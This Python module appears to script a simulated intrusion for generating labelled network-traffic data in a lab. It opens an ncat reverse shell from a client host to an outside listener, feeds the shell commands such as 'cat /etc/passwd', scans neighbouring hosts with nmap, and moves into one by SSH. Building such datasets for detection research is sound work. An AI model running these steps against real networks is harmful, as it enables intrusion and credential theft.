"""After a foothold: an insider's host is steered from outside and goes on to its neighbours."""
from ..benign import CURL, SSH
from ..services import KEY
from .job import Missed, attack, together


@attack("infiltration", "ncat", "ssh", "nmap")
def lateral_movement(job):
    """A reverse shell from a desktop; then a tool is fetched, neighbours are looked at, one is entered by SSH."""
    rng = job.rng
    foothold = rng.choice(job.plan.by_role("client"))
    outside = [h for h in job.plan.by_role("outside") if "web" in h.services]
    doors = [h for h in job.plan.offering("ssh") if h.role != "outside" and h is not foothold]
    if not outside or not doors:
        raise Missed("nowhere to go")
    master, door = rng.choice(outside), rng.choice(doors)
    port = rng.choice((4444, 443 if master.services["tls"] != 443 else 8444, 5555))
    user = rng.choice(list(job.services.users))
    orders = job.file("".join(f"{line}\n" for line in ("id", "uname -a", "cat /etc/passwd", "ls -la /", "ps aux",
                                                       "ip addr")))
    pace = rng.uniform(0.3, 2)
    typed = f"while read -r line; do sleep {pace:.1f}; echo \"$line\"; done <{orders}; sleep {rng.uniform(1, 6):.1f}"
    listener = job.start(master, ["sh", "-c", f"({typed}) | ncat -4 -l -p {port} >/dev/null"])
    job.sleep(0.5)
    try:
        with job.claim(foothold, master, name="reverse_shell"):
            shell = job.start(foothold, ["ncat", "-4", "-w", "20", "-e", "/bin/sh", master.v4, port])
            job.sleep(rng.uniform(1, 3))
            job.run(foothold, [*CURL,
                               f"http://{master.v4}:{master.services['web']}{rng.choice(job.services.pages)[0]}"],
                    12)
            near = [h for h in job.plan.by_role("client", "server") if h not in (foothold, door)]
            look = rng.sample(near, min(rng.randint(2, 5), len(near)))
            together(job, look, lambda host: job.claim(foothold, host, name="lateral_movement"),
                     lambda host: _look_at(job, foothold, host))
            with job.claim(foothold, door, name="lateral_movement"):
                _enter(job, foothold, door, user)
            job.end(shell)
    finally:
        job.end(listener)


def _look_at(job, foothold, host):
    job.run(foothold, ["nmap", "-n", "-Pn", "--send-ip", "--disable-arp-ping", "-sT", "-T3", "--max-retries", "1",
                       "-p",
                       job.rng.choice(("22,80,139,445,3389", "22,2222", "21-25,80,443,6379")), host.v4], 12)


def _enter(job, foothold, door, user):
    there = ["-o", "BatchMode=yes", "-i", KEY]
    for _ in range(job.rng.randint(1, 4)):
        job.run(foothold, ["ssh", *SSH, *there, "-p", door.services["ssh"], f"{user}@{door.v4}",
                           job.rng.choice(("id; ls -la", "head -c 60000 file0.bin", "ps aux"))], 8)
        job.sleep(job.rng.uniform(0.2, 2))
    job.run(foothold, ["scp", "-q", *SSH, *there, "-P", door.services["ssh"], "/usr/bin/nmap",
                       f"{user}@{door.v4}:tool"], 12)
